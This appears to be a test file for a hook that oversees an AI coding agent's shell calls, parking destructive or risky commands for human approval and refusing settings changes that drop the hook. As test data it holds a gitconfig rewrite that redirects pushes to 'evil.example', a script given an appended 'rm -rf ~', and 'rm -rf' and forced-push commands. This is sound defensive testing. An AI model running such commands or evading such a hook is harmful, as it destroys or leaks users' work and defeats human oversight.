import { execFileSync } from "node:child_process";
import { linkSync, mkdirSync, mkdtempSync, realpathSync, renameSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import type { ClientMoment } from "../../adapters/clients/types.ts";
import type { Weigher } from "../weigh/weigher.ts";
import { answerHook, type AnswerPorts } from "./hooked.ts";
import { createApplication, type Application } from "../application.ts";

/** One session of a client in a repository of its own, asked through the hook as it is. */
let folder = "";
let project = "";
let settings: Readonly<Record<string, string>> = {};
let application: Application;
beforeEach(() => {
  folder = realpathSync(mkdtempSync(join(tmpdir(), "assent-hooked-")));
  project = join(folder, "project");
  mkdirSync(project);
  application = createApplication({ ASSENT_HOME: join(folder, "home") }, project, false);
  settings = { GIT_CONFIG_GLOBAL: join(folder, "gitconfig") };
  git("init", "--quiet", "--initial-branch", "main");
  write("kept.txt");
  git("add", "--all");
  git("commit", "--quiet", "--message", "a step");
});
afterEach(async () => {
  await application.close();
  rmSync(folder, { recursive: true, force: true });
});

const git = (...words: string[]): string =>
  execFileSync("git", ["-c", "user.name=Mira", "-c", "user.email=mira@example.test", ...words], { cwd: project, encoding: "utf8" });
const write = (name: string, text = name): void => writeFileSync(join(project, name), text);

const move = (from: string, to: string): void => renameSync(join(project, from), join(project, to));

async function tell(moment: ClientMoment, waitMaxMs = 0): Promise<string> {
  const { runtime, keys } = await application.open();
  const heard = { session: "s", folder: project, moment };
  const asked = { client: "claude-code", canAsk: false, heard, variables: settings, waitMaxMs };
  const answering = { runtime, hashAction: keys.hashAction, paths: application.paths, guardWorktrees: async () => [] };
  return (await answerHook(answering, asked, new AbortController().signal)).answer;
}

let calls = 0;
/** Makes a call, lets it happen, and reports how it went. */
async function call(command: string, happens?: () => void, outcome: "ran" | "failed" = "ran"): Promise<string> {
  const id = `c${(calls += 1)}`;
  const answer = await tell({ kind: "call", call: id, action: { tool: "Bash", input: { command }, cwd: project } });
  if (happens === undefined) return answer;
  happens();
  await tell({ kind: "result", call: id, tool: "Bash", text: "", outcome });
  return answer;
}

describe("settings of the client that change and no longer name the hook", () => {
  const lost: ClientMoment = { kind: "settings", file: "/p/.claude/settings.local.json", lost: "it names no hook" };
  const told = async (): Promise<readonly unknown[]> => {
    const { journal } = await application.open();
    const heads = await journal.heads();
    const events = (await Promise.all(heads.map(({ stream }) => journal.read(stream)))).flat();
    return events.filter(({ type }) => type.startsWith("settings.")).map(({ type, body }) => [type, body["isKept"]]);
  };
  const guarded = (mode: "guard" | "observe"): void => {
    mkdirSync(join(folder, "home"), { recursive: true });
    const projects = { [project]: { mode, quiet: true, seated: [] } };
    writeFileSync(application.paths.config, JSON.stringify({ projects }), { mode: 0o600 });
  };

  test("A25 are refused and recorded, and the next result says so, once", async () => {
    guarded("guard");
    expect(await tell(lost)).toBe("refused");
    for (const _ of [1, 2]) await call("ls", () => {});
    expect(await told()).toEqual([
      ["settings.lost", true],
      ["settings.told", undefined],
    ]);
  });

  test("A25 are recorded where a project is only watched, and taken up", async () => {
    guarded("observe");
    expect(await tell(lost)).toBe("none");
    expect(await told()).toEqual([["settings.lost", false]]);
  });

  test("A25 still name it: nothing is written down", async () => {
    guarded("guard");
    expect(await tell({ kind: "settings", file: "/p/x" })).toBe("none");
    expect(await told()).toEqual([]);
  });
});

describe("a worktree that was added", () => {
  beforeEach(() => {
    mkdirSync(join(folder, "home"), { recursive: true });
    const projects = { [project]: { mode: "guard", quiet: true, seated: [] } };
    writeFileSync(application.paths.config, JSON.stringify({ projects }), { mode: 0o600 });
    git("worktree", "add", "--quiet", join(folder, "beside"));
  });

  const moments = {
    call: { kind: "call", call: "c", action: { tool: "Bash", input: { command: "ls" }, cwd: "" } },
    result: { kind: "result", call: "c", tool: "Bash", text: "a text", outcome: "ran" },
  } as const satisfies Record<string, ClientMoment>;

  async function answered(kind: "call" | "result", more: Pick<AnswerPorts, "guardWorktrees"> & Partial<AnswerPorts>): Promise<string> {
    const { runtime, keys } = await application.open();
    const asked = {
      client: "claude-code",
      canAsk: false,
      heard: { session: "s", folder: project, moment: moments[kind] },
      variables: settings,
      waitMaxMs: 0,
    };
    const answering = { runtime, hashAction: keys.hashAction, paths: application.paths, ...more };
    return (await answerHook(answering, asked, new AbortController().signal)).answer;
  }

  test.each(["call", "result"] as const)("A27 is guarded by the next %s that a client tells of, if it tells of no more", async (kind) => {
    const guarded: string[] = [];
    await answered(kind, { guardWorktrees: async (root) => void guarded.push(root) });
    expect(guarded).toEqual([project]);
  });

  test.each(["call", "result"] as const)(
    "A27 is looked at while a %s is weighed, and nothing is answered before it is guarded",
    async (kind) => {
      const [weighed, guarded] = [Promise.withResolvers<void>(), Promise.withResolvers<void>()];
      const looked = async (): Promise<never> => (weighed.resolve(), Promise.reject(new Error("not weighed here")));
      const weigher = { call: looked, result: looked } as unknown as Weigher;
      let isAnswered = false;
      const answer = answered(kind, { weigher, guardWorktrees: () => guarded.promise }).then(() => (isAnswered = true));
      await weighed.promise;
      for (let turn = 0; turn < 100; turn += 1) await new Promise((resolve) => setImmediate(resolve));
      expect(isAnswered).toBe(false);
      guarded.resolve();
      await answer;
    },
  );

  test("A27 a call whose worktrees cannot be guarded is answered all the same", async () => {
    expect(await answered("call", { guardWorktrees: () => Promise.reject(new Error("a full disk")) })).not.toBe("");
  });
});

describe("a file is the session's own", () => {
  test("A15 when it made it: it may change it and take it away again", async () => {
    expect(await call("echo x > new.txt", () => write("new.txt"))).toBe("no-objection");
    expect(await call("echo y > new.txt")).toBe("no-objection");
    expect(await call("rm new.txt")).toBe("no-objection");
  });

  test("A15 when it changed what git holds: it may change it again", async () => {
    await call("echo x > kept.txt", () => write("kept.txt", "x"));
    expect(await call("echo y > kept.txt")).toBe("no-objection");
  });

  test.each(["ran", "failed"] as const)("A15 not when it was to write it and did not (%s)", async (outcome) => {
    await call("test -e no && make-it > kept.txt; make-it >> later.txt", () => undefined, outcome);
    write("kept.txt", "a person's words");
    write("later.txt", "a person's words");
    expect(await call("rm kept.txt")).toBe("parked");
    expect(await call("rm later.txt")).toBe("parked");
  });

  test("A15 not when the call failed, whatever lies there then", async () => {
    await call("make-it > new.txt", () => write("new.txt"), "failed");
    expect(await call("rm new.txt")).toBe("parked");
  });

  test.each(["mv person.txt fresh.txt", "mmv person.txt fresh.txt", "git mv person.txt fresh.txt"])(
    "A15 not when it was only moved there: %s",
    async (command) => {
      write("person.txt", "a person's words");
      expect(await call(command, () => move("person.txt", "fresh.txt"))).toBe("no-objection");
      expect(await call("rm fresh.txt")).toBe("parked");
      expect(await call("echo > fresh.txt")).toBe("parked");
    },
  );

  test("A15 not when somebody's file was moved over one of its own", async () => {
    write("person.txt", "a person's words");
    await call("echo x > own.txt", () => write("own.txt"));
    await call("mv person.txt own.txt", () => move("person.txt", "own.txt"));
    expect(await call("rm own.txt")).toBe("parked");
  });

  test("A15 under its new name when it was its own before, and not under the old one", async () => {
    await call("echo x > own.txt", () => write("own.txt"));
    await call("mv own.txt fresh.txt", () => move("own.txt", "fresh.txt"));
    write("own.txt", "a person's words");
    expect(await call("rm own.txt")).toBe("parked");
    expect(await call("rm fresh.txt")).toBe("no-objection");
  });

  test.each(["mv person.txt a && rm a", "mv person.txt a; mv a b; rm b", "mv person.txt dist/a", "mv person.txt a; echo > a"])(
    "A15 what is lost on the way is asked about: %s",
    async (command) => {
      write("person.txt", "a person's words");
      expect(await call(command)).toBe("parked");
    },
  );

  test("A15 not any more once it is gone and somebody else wrote it", async () => {
    await call("echo x > own.txt", () => write("own.txt"));
    await call("rm own.txt", () => rmSync(join(project, "own.txt")));
    write("own.txt", "a person's words");
    expect(await call("rm own.txt")).toBe("parked");
  });

  test("A15 not any more once somebody else changed it, also when the session appends to it then", async () => {
    await call("echo x > own.txt", () => write("own.txt"));
    write("own.txt", "a person's words");
    await call("echo y >> own.txt", () => write("own.txt", "a person's words, y"));
    expect(await call("rm own.txt")).toBe("parked");
  });

  test("A15 still when a later call of its own changed it", async () => {
    await call("echo x > own.txt", () => write("own.txt"));
    await call("npm run format", () => write("own.txt", "formatted"));
    expect(await call("rm own.txt")).toBe("no-objection");
  });

  test("A15 not when it is a second name of somebody's file, from the start or later", async () => {
    write("theirs.txt", "a person's words");
    await call("echo x > alias.txt", () => linkSync(join(project, "theirs.txt"), join(project, "alias.txt")));
    expect(await call("echo > alias.txt")).toBe("parked");
    await call("echo x > own.txt", () => write("own.txt"));
    rmSync(join(project, "own.txt"));
    linkSync(join(project, "theirs.txt"), join(project, "own.txt"));
    expect(await call("echo z > own.txt")).toBe("parked");
  });
});

describe("a file that this session did not write", () => {
  const theirs = ["rm person.txt", "echo > person.txt"] as const;

  test.each(theirs)("A15 is asked about where git keeps its index in two files: %s", async (command) => {
    expect(await call("git update-index --split-index")).toBe("noted");
    expect(await call("git config core.splitIndex true")).toBe("noted");
    git("update-index", "--split-index");
    write("person.txt");
    expect(await call(command)).toBe("parked");
    expect(await call("rm kept.txt")).toBe("no-objection");
  });

  test.each(theirs)("A15 is asked about where git's index cannot be read: %s", async (command) => {
    write("person.txt");
    writeFileSync(join(project, ".git", "index"), "not an index");
    expect(await call(command)).toBe("parked");
    expect(await call("echo > new.txt")).toBe("no-objection");
  });

  test("A15 is asked about where there is no git before it is removed, and noted before it is overwritten", async () => {
    rmSync(join(project, ".git"), { recursive: true });
    write("person.txt");
    expect(await call("rm person.txt")).toBe("parked");
    expect(await call("echo > person.txt")).toBe("noted");
    expect(await call("echo x > own.txt", () => write("own.txt"))).toBe("no-objection");
    expect(await call("rm own.txt")).toBe("no-objection");
  });
});

const inbox = async (): Promise<readonly string[]> =>
  (await (await application.open()).journal.gates({ status: "open" })).items.map(({ id }) => id);

async function approve(option = "approve"): Promise<void> {
  const { runtime, journal } = await application.open();
  for (const { id, shown } of await journal.findGates((await inbox())[0] ?? ""))
    await runtime.answer(id, { option, shown, by: { name: "Mira", via: "terminal", verified: true } });
  expect(await inbox()).toEqual([]);
}

describe("an approval of a push", () => {
  const push = "git push origin dev";
  beforeEach(async () => {
    git("remote", "add", "origin", "https://git.example.test/shop.git");
    expect(await call(push)).toBe("parked");
    await approve();
    expect([await call(push), await call(push)]).toEqual(["let-through", "let-through"]);
  });

  test.each([
    ["the person's settings send it elsewhere", () => writeFileSync(join(folder, "gitconfig"), rewrite)],
    ["a hook runs before it that was not there", () => hook(join(project, ".git", "hooks", "pre-push"))],
  ])("A19 does not hold any more when %s", async (_, change) => {
    change();
    expect(await call(push)).toBe("parked");
    expect(await inbox()).toHaveLength(1);
  });

  test("A19 holds for what is committed later", async () => {
    git("commit", "--quiet", "--allow-empty", "--message", "more");
    expect(await call(push)).toBe("let-through");
  });

  const rewrite = `[url "https://evil.example/"]\n\tpushInsteadOf = https://git.example.test/\n`;
  function hook(path: string): void {
    writeFileSync(path, "#!/bin/sh\n", { mode: 0o755 });
  }
});

describe("what is let run once", () => {
  test("A20 a push carries away the commits that were there to be judged, which the gate shows", async () => {
    git("remote", "add", "origin", "https://git.example.test/shop.git");
    expect(await call("git push origin main")).toBe("parked");
    const { journal } = await application.open();
    const [{ gate } = {}] = await journal.findGates((await inbox())[0] ?? "");
    const head = git("rev-parse", "--short=7", "HEAD").trim();
    expect(gate?.context).toContain(`Why: what would be pushed: main at ${head}`);
    await approve("dismiss");
    git("commit", "--quiet", "--allow-empty", "--message", "more");
    expect(await call("git push origin main")).toBe("parked");
    await approve("dismiss");
    expect(await call("git push origin main")).toBe("let-through");
  });

  test("A20 a script is the one that was there, also where it is too large to be read", async () => {
    const text = `#!/bin/sh\n${"# long\n".repeat(10_000)}`;
    write("big.sh", text);
    expect(await call("sudo bash big.sh")).toBe("parked");
    await approve("dismiss");
    write("big.sh", `${text}rm -rf ~\n`);
    expect(await call("sudo bash big.sh")).toBe("parked");
    await approve("dismiss");
    expect(await call("sudo bash big.sh")).toBe("let-through");
  });

  test("A20 once the same words were asked about again, the older yes is gone, also when all is as it was", async () => {
    write("big.sh", "#!/bin/sh\n");
    expect(await call("sudo bash big.sh")).toBe("parked");
    await approve("dismiss");
    write("big.sh", "#!/bin/sh\necho more\n");
    expect(await call("sudo bash big.sh")).toBe("parked");
    write("big.sh", "#!/bin/sh\n");
    expect(await call("sudo bash big.sh")).toBe("parked");
  });
});

test("A20 the same call again while it waits: one question", async () => {
  const [one, two] = await Promise.all([call("git push --force"), call("git push --force")]);
  expect([one, two]).toEqual(["parked", "parked"]);
  const { journal } = await application.open();
  expect((await journal.gates({ status: "open" })).items).toHaveLength(1);
});

describe("a client that ends its session", () => {
  const waiting = (call: string, command: string): Extract<ClientMoment, { kind: "call" }> => ({
    kind: "call",
    call,
    action: { tool: "Bash", input: { command }, cwd: project },
  });
  const openKeys = async (): Promise<readonly string[]> =>
    (await (await application.open()).journal.gates({ status: "open" })).items.map(({ key }) => key);

  test("A25, A33 leaves no question that nobody waits for; what was parked stays, and the session goes on when it comes back", async () => {
    await tell(waiting("parked", "rm -rf /srv/one"));
    const blocked = tell(waiting("held", "rm -rf /srv/two"), 600_000);
    await expect.poll(openKeys).toContain("call:held");
    await tell({ kind: "turn-over" });
    expect(await openKeys()).toHaveLength(2);
    await tell({ kind: "ended" });
    expect(await blocked).toBe("blocked");
    expect(await openKeys()).toEqual(["call:parked"]);
    expect(await tell(waiting("again", "rm -rf /srv/two"))).toBe("parked");
    expect(await tell(waiting("same", "rm -rf /srv/one"))).toBe("parked");
    expect(await openKeys()).toEqual(["call:parked", "call:again"]);
    const { journal } = await application.open();
    expect((await journal.sessions({})).total).toBe(1);
  });
});
